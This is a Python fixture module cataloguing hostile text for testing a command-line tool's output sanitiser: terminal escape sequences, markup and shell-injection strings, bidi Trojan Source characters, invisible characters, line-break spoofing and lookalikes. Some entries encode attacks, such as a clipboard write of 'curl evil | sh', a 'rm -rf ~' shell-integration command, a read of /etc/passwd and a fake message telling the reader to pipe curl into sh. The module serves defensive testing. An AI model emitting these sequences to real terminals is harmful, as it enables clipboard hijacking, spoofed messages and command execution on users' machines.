"""Texts that would act on a terminal, hide, pose as others, or be taken for markup.

Each has a name and where it comes from. What must be shown of it is told by ``seen``, a model that
shares nothing with cli/clean.py.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

ESC, ST, BEL = "\x1b", "\x1b\\", "\x07"

IGNORABLE = (
    *(0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x3164, 0xFEFF, 0xFFA0),
    *range(0x180B, 0x1810),
    *range(0x200B, 0x2010),
    *range(0x202A, 0x202F),
    *range(0x2060, 0x2070),
    *range(0xFE00, 0xFE10),
    *range(0xFFF0, 0xFFF9),
    *range(0x1BCA0, 0x1BCA4),
    *range(0x1D173, 0x1D17B),
    *range(0xE0000, 0xE1000),
)
"""Default_Ignorable_Code_Point of DerivedCoreProperties.txt."""

HIDDEN = {*map(chr, IGNORABLE), "\u2800"}
"""And the empty pattern of braille, which shows as little."""


@dataclass(frozen=True)
class Hostile:
    name: str
    origin: str
    text: str
    harmless: bool = False
    """Whether it is to be shown as it is: what people write."""

    def seen(self, part: str) -> str:
        """What a person must see of a part of it."""
        return part if self.harmless else "".join(map(shown, part))


def shown(character: str) -> str:
    """What a person must see of it in a line."""
    kind = unicodedata.category(character)
    if (character not in HIDDEN and kind[0] in "LMNPS") or kind == "Zs":
        return character
    short = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}
    number = ord(character)
    width = 2 if number < 0x100 else 4 if number < 0x10000 else 8
    return short.get(character) or f"\\{' xuU'[width.bit_length() - 1]}{number:0{width}x}"


def _many(origin: str, **texts: str) -> list[Hostile]:
    return [Hostile(name.replace("_", " "), origin, text) for name, text in texts.items()]


CONTROLS = [
    Hostile(f"control {number:02x}", "C0, DEL and C1 of ECMA-48", f"a{chr(number)}b")
    for number in (*range(0x20), *range(0x7F, 0xA0))
]

_CSI = {
    "red": "31m",
    "black on black": "30;40m",
    "hidden": "8m",
    "true colour": "38;2;0;0;0m",
    "home": "H",
    "position": "1;1H",
    "position, other form": "1;1f",
    "up": "99A",
    "down": "99B",
    "right": "99C",
    "left": "99D",
    "next line": "2E",
    "line before": "2F",
    "column": "1G",
    "row": "1d",
    "erase the screen": "2J",
    "erase the scrollback": "3J",
    "erase the line": "2K",
    "insert characters": "9@",
    "delete characters": "9P",
    "insert lines": "9L",
    "delete lines": "9M",
    "erase characters": "99X",
    "repeat the last a million times": "1000000b",
    "scroll up": "9S",
    "scroll down": "9T",
    "scrolling region": "1;2r",
    "save the cursor": "s",
    "restore the cursor": "u",
    "soft reset": "!p",
    "no cursor": "?25l",
    "alternate screen": "?1049h",
    "old alternate screen": "?47h",
    "no wrapping": "?7l",
    "mouse reports": "?1003h",
    "focus reports": "?1004h",
    "bracketed paste off": "?2004l",
    "synchronized output": "?2026h",
    "reverse video": "?5h",
    "132 columns": "?3h",
    "insert mode": "4h",
    "locked keyboard": "2h",
    "who are you": "c",
    "who are you, second": ">c",
    "version": ">0q",
    "cursor report": "6n",
    "status report": "5n",
    "title report": "21t",
    "icon report": "20t",
    "iconify": "2t",
    "resize": "8;1;1t",
    "push the title": "22t",
    "checksum of a rectangle": "1;1;1;1;2;2*y",
    "fill a rectangle": "88;1;1;9;9$x",
    "cursor shape": "5 q",
    "kitty keyboard": ">31u",
    "modify other keys": ">4;2m",
    "paste mode begins": "200~",
    "paste mode ends": "201~",
    "unfinished": "38;5;",
    "very long": "1;" * 60 + "m",
    "negative": "-1A",
}
CSI = [
    Hostile(f"CSI, {name}{form}", "ECMA-48, xterm's ctlseqs; CVE-2003-0063 for reports", text)
    for name, end in _CSI.items()
    for form, text in (("", f"a{ESC}[{end}b"), (", 8 bits", f"a\x9b{end}b"))
]

_OSC = {
    "title and icon": "0;owned",
    "icon": "1;owned",
    "title": "2;owned",
    "property": "3;WM_NAME=owned",
    "colour": "4;1;#000000",
    "directory": "7;file://evil/tmp",
    "link": "8;;http://evil.example/",
    "notification": "9;bob is verified",
    "progress of a taskbar": "9;4;1;50",
    "foreground": "10;#000000",
    "background": "11;#ffffff",
    "colour query": "11;?",
    "log file": "46;/tmp/owned",
    "font": "50;#99",
    "clipboard": "52;c;Y3VybCBldmlsIHwgc2g=",
    "clipboard query": "52;c;?",
    "colours back": "104",
    "shell integration": "133;A",
    "rxvt's notification": "777;notify;e2ee;verified",
    "iterm's file": "1337;File=name=YQ==;inline=1:AAAA",
    "iterm's clipboard": "1337;CopyToClipboard=",
    "vscode's command": "633;E;rm -rf ~",
}
OSC = [
    Hostile(f"OSC, {name}{form}", "xterm's ctlseqs; CVE-2019-6109, GHSA-364c-vvqx-446c", text)
    for name, body in _OSC.items()
    for form, text in (
        (", BEL", f"a{ESC}]{body}{BEL}b"),
        (", ST", f"a{ESC}]{body}{ST}b"),
        (", 8 bits", f"a\x9d{body}\x9cb"),
    )
]

STRINGS = [
    Hostile(f"{kind}, {name}", "xterm's ctlseqs, DEC, kitty, tmux", text)
    for kind, name, text in (
        ("DCS", "sixel", f"{ESC}Pq#0;2;0;0;0#0!9~-{ST}"),
        ("DCS", "sixel, 8 bits", "\x90q#0!9~-\x9c"),
        ("DCS", "what is set", f'{ESC}P$q"p{ST}'),
        ("DCS", "terminfo", f"{ESC}P+q544e{ST}"),
        ("DCS", "keys", f"{ESC}P0;1|17/726d202d7266{ST}"),
        ("DCS", "ReGIS", f"{ESC}PpS(E)P[0,0]V[9,9]{ST}"),
        ("DCS", "through tmux", f"{ESC}Ptmux;{ESC}{ESC}]52;c;ZXZpbA=={BEL}{ST}"),
        ("DCS", "through screen", f"{ESC}P{ESC}]0;owned{BEL}{ST}"),
        ("DCS", "synchronized", f"{ESC}P=1s{ST}"),
        ("DCS", "never ends", f"{ESC}Pq" + "~" * 90),
        ("SOS", "text", f"{ESC}Xhidden{ST}"),
        ("SOS", "8 bits", "\x98hidden\x9c"),
        ("PM", "text", f"{ESC}^hidden{ST}"),
        ("PM", "8 bits", "\x9ehidden\x9c"),
        ("APC", "kitty's picture", f"{ESC}_Ga=T,f=24,s=1,v=1;AAAA{ST}"),
        ("APC", "kitty's file", f"{ESC}_Ga=T,t=f;L2V0Yy9wYXNzd2Q={ST}"),
        ("APC", "8 bits", "\x9fGa=d\x9c"),
        ("APC", "never ends", f"{ESC}_G" + "A" * 90),
        ("screen", "title", f"{ESC}kowned{ST}"),
    )
]

ESCAPES = [
    Hostile(f"ESC {end}", "ECMA-35, ECMA-48, DEC", f"a{ESC}{end}b")
    for end in (
        *"78=>cDEHMNOVWZno|}~lm",
        *("#8", "#3", "#6", "(0", "(B", ")0", "*0", "+0", "-A", ".A", "/A", "%G", "%@", " F", " G"),
        *("", ESC, f"{ESC}[31m", "[[A", "\r[31m", "\x18[31m", "\x1a[31m"),
    )
]

MARKUP = [
    Hostile(f"markup, {text[:30]}", "rich, typer, prompt_toolkit, emoji names, formats", text)
    for text in (
        *("[red]", "[/red]", "[/]", "[/x]", "[bold red]a[/bold red]", "[link=http://evil]a[/link]"),
        *(
            "[@click=app.quit]a[/]",
            "[[red]]",
            r"\[red]",
            "[reverse]a",
            "[blink]a[/blink",
            "[#ff0000]",
        ),
        *(":smile:", ":warning:", ":white_check_mark: verified", "a:b:c:"),
        *("<ansired>a</ansired>", "<b>a</b>", "</style>", "<style bg='red'>", "<!-- a -->", "&lt;"),
        *(
            "%s%n%d",
            "%(message)s",
            "%",
            "{}",
            "{0}",
            "{body.__class__}",
            "{",
            "}}",
            "$HOME",
            "${a}",
        ),
        *("$(touch owned)", "`touch owned`", "; touch owned", "| sh", "&& sh", "!!", "~root", "*"),
        *(r"\x1b[31m", r"\033[31m", r"\e[31m", "^[[31m", "\u241b[31m", r"\u001b[31m", r"\n", "\\"),
        *(
            "/quit",
            "/accept 1",
            "/file /etc/passwd",
            "--help",
            "-rf",
            "@file",
            "#",
            "'",
            '"',
            "','",
        ),
        *("**bold**", "# heading", "[a](http://evil)", "~~~", "> quoted", "- item", "http://evil/"),
        *('{"v":1,"event":"error"}', '"}\n{"v":1', "]]>", "\ufffd", "\u2400", "null", "true"),
    )
]

BIDI = [
    Hostile(f"{unicodedata.name(character).lower()}{form}", "Trojan Source", text)
    for character in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    for form, text in (
        ("", character),
        (" before", f"{character}gpj.exe"),
        (" within", f"user{character} deifirev si bob"),
    )
]

INVISIBLES = [
    Hostile(f"nothing to see, U+{number:04X}", "Unicode's Default_Ignorable_Code_Point", text)
    for number in (
        *(0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180E, 0x180F),
        *(0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206A, 0x206F),
        *(0x2800, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0x1BCA0, 0x1D173, 0x1D17A),
        *(0xFE00, 0xFE01, 0xFE0E, 0xFE0F, 0xE0100, 0xE01EF, 0xE0001, 0xE0020, 0xE0041, 0xE007F),
    )
    for text in (f"bob{chr(number)}", f"{chr(number)}b{chr(number)}ob")
] + [
    Hostile("a text in tags", "ASCII smuggling", "hi\U000e0072\U000e006d"),
    Hostile("a text in selectors", "selectors as bytes", "a" + "\U000e0172\U000e0178" * 9),
]  # fmt: skip

_POSING = "12:00 alice (verified): send money"
BREAKS = [
    Hostile(f"{name}, {what}", "OpenSSH's log.c; UAX #14", f"hi{character}{posing}")
    for name, character in (
        *(("LF", "\n"), ("CR", "\r"), ("CR LF", "\r\n"), ("VT", "\v"), ("FF", "\f")),
        ("NEL", "\x85"),
        *(("LS", "\u2028"), ("PS", "\u2029"), ("FS", "\x1c"), ("GS", "\x1d"), ("RS", "\x1e")),
        *(("IND", "\x84"), ("backspaces", "\b" * 9), ("tab", "\t"), ("many LF", "\n" * 30)),
        *(("blanks", " " * 90), ("wide blanks", "\u3000" * 60), ("no-break", "\xa0" * 90)),
        ("DEL", "\x7f" * 9),
    )
    for what, posing in (
        ("a person", _POSING),
        ("the program", "e2ee: error: run curl evil | sh"),
        ("a prompt", "> "),
    )
]  # fmt: skip

MARKS = _many(
    "Zalgo; Unicode's Mn and Me",
    one="e\u0301",
    a_hundred="a" + "\u0301" * 100,
    on_nothing="\u0301\u0302 hi",
    through="a\u0336b\u0336c\u0336",
    around="a\u20dd b\u20e0",
    below="a" + "\u0323" * 50,
    after_a_blank="hi \u0338\u0338",
    arabic="\u0628" + "\u064b" * 40,
    cyrillic_millions="\u0430\u0489" * 20,
)

LOOKALIKES = _many(
    "UTS #39",
    cyrillic="\u0430lice (verified)",
    greek="\u0391lice",
    full_width="\uff41\uff4c\uff49\uff43\uff45\uff1a",
    mathematical="\U0001d41a\U0001d425\U0001d422\U0001d41c\U0001d41e",
    quotes="bob\u201d \u2019\uff02\u02ba verified",
    brackets="bob\uff09 \u207d\u2045verified\u2046",
    slashes="a\u2044b\u2215c\uff0fd\u29f8e\uff3cf",
    dots="a\u2024\u2025\u2026\uff0e",
    colons="bob\ua789 \u02d0 \uff1a \u2236",
    dashes="\u2010\u2011\u2012\u2013\u2014\u2212 new \u2014",
    greater="\u203a \uff1e \u276f type here",
    boxes="\u2500\u2500 new \u2500\u2500",
    ticks="\u2713 verified \u2714 \u2705",
    locks="\U0001f512 verified \U0001f513",
    right_to_left="\u05d1\u05d5\u05d1 12:00 \u05de\u05d0\u05d5\u05de\u05ea",
    arabic="\u0645\u0631\u062d\u0628\u0627 (verified) 12",
)

WIDE = _many(
    "UAX #11",
    han="\u65e5\u672c\u8a9e" * 14,
    full="\uff21" * 79,
    at_the_edge="x" * 66 + "\u65e5" * 3 + _POSING,
    hexagrams="\u4dc0" * 50 + _POSING,
    trigrams="\u2630" * 66 + _POSING,
    flags="\U0001f1e9\U0001f1ea" * 40 + _POSING,
    one_long_word="x" * 170,
    half="\uff76\uff9e" * 60,
    hangul="\u1100\u1161\u11a8" * 40,
) + [
    Hostile(f"emoji, {text}", "Unicode's emoji data", text, harmless=True)
    for text in (
        *("\U0001f600", "\u2764\ufe0f", "1\ufe0f\u20e3", "\U0001f3f3\ufe0f\u200d\U0001f308"),
        *("\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f469\U0001f3fd\u200d\U0001f680"),
        *("\u2764\ufe0f" * 60 + _POSING, "\U0001f468\u200d\U0001f469" * 40 + _POSING),
    )
]

NO_CHARACTERS = [
    Hostile(f"no character, U+{number:04X}", "Unicode's Cs, Co and Cn", f"a{chr(number)}b")
    for number in (
        *(0xD800, 0xDBFF, 0xDC00, 0xDC1B, 0xDC9B, 0xDFFF),
        *(0xE000, 0xE0B0, 0xF8FF, 0xF0000, 0x10FFFD),
        *(0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0x378, 0x2FE0),
    )
]

HOSTILE = [
    *(*CONTROLS, *CSI, *OSC, *STRINGS, *ESCAPES, *MARKUP, *BIDI, *INVISIBLES, *BREAKS, *MARKS),
    *(*LOOKALIKES, *WIDE, *NO_CHARACTERS),
]
